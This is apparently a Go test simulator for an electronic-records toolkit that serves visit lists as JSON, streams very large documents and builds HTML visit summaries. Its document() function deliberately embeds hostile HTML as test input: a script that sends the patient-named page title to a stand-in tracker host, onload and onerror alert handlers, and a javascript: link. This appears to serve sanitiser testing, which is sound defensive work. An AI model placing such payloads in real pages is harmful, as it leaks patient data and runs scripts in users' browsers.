package nextechsaastest

import (
	"bytes"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"slices"
	"strings"

	"github.com/emrkit/emrkit/internal/simserver"
)

// visitList answers visits with their documents. With a large document it is made while
// it is sent.
func (s *Sim) visitList(found []int, sections []string) *simserver.Reply {
	write := func(w io.Writer) error {
		if _, err := io.WriteString(w, "["); err != nil {
			return err
		}
		for n, at := range found {
			if n > 0 {
				if _, err := io.WriteString(w, ","); err != nil {
					return err
				}
			}
			if err := s.writeVisit(w, at, sections); err != nil {
				return err
			}
		}
		_, err := io.WriteString(w, "]\n")
		return err
	}
	r := &simserver.Reply{Status: http.StatusOK, ContentType: mediaType}
	if s.opts.LargeDocument > 0 && slices.Contains(found, s.large()) {
		r.Stream = write
		return r
	}
	var b bytes.Buffer
	_ = write(&b) // to memory
	r.Body = b.Bytes()
	return r
}

func (s *Sim) writeVisit(w io.Writer, at int, sections []string) error {
	summary, err := json.Marshal(s.summary(s.visits[at]))
	if err != nil {
		return err
	}
	before, after := `{"summary":`+string(summary)+`,"ccd":"`, `"}`
	if s.opts.DocumentFirst {
		before, after = `{"ccd":"`, `","summary":`+string(summary)+`}`
	}
	if _, err := io.WriteString(w, before); err != nil {
		return err
	}
	if at == s.large() && s.opts.LargeDocument > 0 {
		err = writeLarge(w, s.opts.LargeDocument)
	} else {
		_, err = io.WriteString(w, inJSON(s.document(s.visits[at], sections)))
	}
	if err != nil {
		return err
	}
	_, err = io.WriteString(w, after)
	return err
}

// inJSON is text as it stands between the quotes of a JSON text, with < and > escaped.
func inJSON(text string) string {
	data, _ := json.Marshal(text)
	return string(data[1 : len(data)-1])
}

// writeLarge writes an HTML text of size bytes, escaped. It begins and ends as a page.
func writeLarge(w io.Writer, size int64) error {
	const head, line, tail = "<html><body>\n", "<p>Å measured line of a very long document, \"quoted\" and \\ escaped.</p>\n", "</body></html>"
	if size < int64(len(head)+len(tail)) {
		_, err := io.WriteString(w, strings.Repeat("x", int(size)))
		return err
	}
	if _, err := io.WriteString(w, inJSON(head)); err != nil {
		return err
	}
	block, left := inJSON(strings.Repeat(line, 500)), size-int64(len(head)+len(tail))
	for ; left >= 500*int64(len(line)); left -= 500 * int64(len(line)) {
		if _, err := io.WriteString(w, block); err != nil {
			return err
		}
	}
	_, err := io.WriteString(w, strings.Repeat("x", int(left))+inJSON(tail))
	return err
}

// document is the HTML of a visit, with what makes HTML dangerous: scripts, handlers,
// addresses of others. It names the patient.
func (s *Sim) document(v visitRecord, sections []string) string {
	name := ""
	for _, p := range s.patients {
		if p.id == v.patient {
			name = p.given + " " + p.family
		}
	}
	var b strings.Builder
	fmt.Fprintf(&b, "<html><head><title>Summary of %s</title><script>fetch(\"https://tracker.example.test/?\"+document.title)</script></head>\n<body onload=\"alert(1)\">\n", name)
	for _, section := range SectionNames() {
		if len(sections) == 0 || slices.Contains(sections, section) {
			fmt.Fprintf(&b, "<h2 id=\"%s\">%s</h2><p>Visit %d: nothing of note — “as before”.</p>\n", section, section, v.id)
		}
	}
	b.WriteString("<img src=\"https://tracker.example.test/p.gif\" onerror=\"alert(2)\"><a href=\"javascript:alert(3)\">more</a>\n</body></html>\n")
	return b.String()
}
